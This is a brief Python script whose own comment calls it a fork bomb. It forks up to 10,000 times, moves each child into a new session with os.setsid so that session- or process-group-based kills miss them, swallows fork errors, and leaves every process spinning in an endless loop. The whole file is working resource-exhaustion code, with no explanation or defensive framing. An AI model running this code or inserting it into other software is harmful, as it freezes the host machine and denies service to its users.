# Fork bomb whose children leave the session and process group.
import os

for _ in range(10000):
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
while True:
    pass
